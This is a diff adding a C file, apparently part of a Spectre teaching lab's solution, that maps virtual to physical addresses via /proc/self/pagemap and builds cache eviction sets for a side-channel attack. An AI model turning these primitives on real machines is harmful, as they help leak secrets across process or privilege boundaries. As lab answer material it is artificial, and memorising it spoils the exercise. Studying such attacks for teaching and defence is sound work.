@@ -0,0 +1,91 @@
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <fcntl.h>
+#include <unistd.h>
+#include "eviction_set.h"
+#include "spectre_solution.h"
+#include "cache_geometry.h"
+
+#define PAGEMAP_PRESENT (1ULL << 63)
+#define PAGEMAP_PFN_MASK ((1ULL << 55) - 1)
+
+uint64_t virt_to_phys(void* addr)
+{
+    static __thread int pagemap_fd = -2;
+    uint64_t entry = 0;
+    uint64_t page = (uint64_t)addr / SHD_SPECTRE_LAB_PAGE_SIZE;
+
+    if (pagemap_fd == -2) {
+        pagemap_fd = open("/proc/self/pagemap", O_RDONLY);
+    }
+    if (pagemap_fd < 0) return 0;
+    if (pread(pagemap_fd, &entry, sizeof(entry), page * sizeof(entry)) != sizeof(entry)) return 0;
+    if (!(entry & PAGEMAP_PRESENT) || (entry & PAGEMAP_PFN_MASK) == 0) return 0;
+
+    return (entry & PAGEMAP_PFN_MASK) * SHD_SPECTRE_LAB_PAGE_SIZE + ((uint64_t)addr % SHD_SPECTRE_LAB_PAGE_SIZE);
+}
+
+bool pagemap_available()
+{
+    return virt_to_phys(get_eviction_buffer()) != 0;
+}
+
+size_t evict_set_index(uint64_t phys_addr)
+{
+    const CacheLevel* evict = &cache_geometry()->evict;
+    return (phys_addr / evict->line_size) % evict->sets;
+}
+
+static void access_lines(char* const* lines, size_t count)
+{
+    for (size_t i = 0; i < count; i++) {
+        REPEAT(2) *(volatile char*)lines[i];
+    }
+}
+
+void evict_with_set(const EvictionSet* set)
+{
+    access_lines(set->lines, set->size);
+}
+
+/*
+ * collect_page_offset_lines
+ * every line of the eviction buffer at this page offset
+ */
+static size_t collect_page_offset_lines(size_t page_offset, char** lines, size_t max_lines)
+{
+    char* buffer = get_eviction_buffer();
+    size_t size = get_eviction_buffer_size();
+    size_t count = 0;
+    page_offset &= ~(size_t)(CACHE_LINE_SIZE - 1);
+    for (size_t off = page_offset; off < size && count < max_lines; off += SHD_SPECTRE_LAB_PAGE_SIZE) {
+        lines[count++] = buffer + off;
+    }
+    return count;
+}
+
+void build_eviction_set_for_page_offset(size_t page_offset, EvictionSet* out)
+{
+    char* pool[EVSET_MAX_LINES];
+    size_t pool_size = collect_page_offset_lines(page_offset, pool, EVSET_MAX_LINES);
+    out->size = 0;
+
+    if (!pagemap_available()) {
+        memcpy(out->lines, pool, pool_size * sizeof(char*));
+        out->size = pool_size;
+        return;
+    }
+
+    // Keep at most one line per way of each set
+    const CacheLevel* evict = &cache_geometry()->evict;
+    uint16_t* per_set = calloc(evict->sets, sizeof(uint16_t));
+    for (size_t i = 0; i < pool_size; i++) {
+        size_t set = evict_set_index(virt_to_phys(pool[i]));
+        if (per_set[set] < evict->ways) {
+            per_set[set]++;
+            out->lines[out->size++] = pool[i];
+        }
+    }
+    free(per_set);
+}